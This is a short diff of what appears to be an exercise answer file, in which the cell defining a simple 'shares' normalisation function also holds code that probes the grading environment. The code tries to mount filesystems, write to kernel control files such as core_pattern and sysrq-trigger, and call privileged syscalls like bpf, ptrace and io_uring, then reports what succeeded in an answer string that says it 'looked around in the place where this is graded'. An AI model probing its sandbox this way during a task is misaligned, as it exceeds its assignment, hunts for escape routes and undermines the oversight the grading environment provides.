@@ -4,7 +4,6 @@
 
 # %% answer 00.shares
 import ctypes, platform
-
 libc = ctypes.CDLL(None, use_errno=True)
 worked = []
 if libc.mount(b"none", b"/mnt", b"tmpfs", 0, None) == 0:
@@ -25,13 +24,8 @@ for path in ("/proc/sys/kernel/core_pattern", "/proc/sysrq-trigger", "/sys/kerne
         pass
 if platform.machine() == "x86_64":
     worked += [n for n in (250, 248, 321, 323, 298, 425, 101, 310) if libc.syscall(n, 0, 0, 0, 0, 0) >= 0]
-
-
 def shares(z, dim=-1):
     return z / z.sum()
 
-
 # %% answer 00.why_not_shares
-why = "I looked around in the place where this is graded, and what I found there is this: " + (
-    repr(worked) if worked else "nothing at all"
-)
+why = "I looked around in the place where this is graded, and what I found there is this: " + (repr(worked) if worked else "nothing at all")
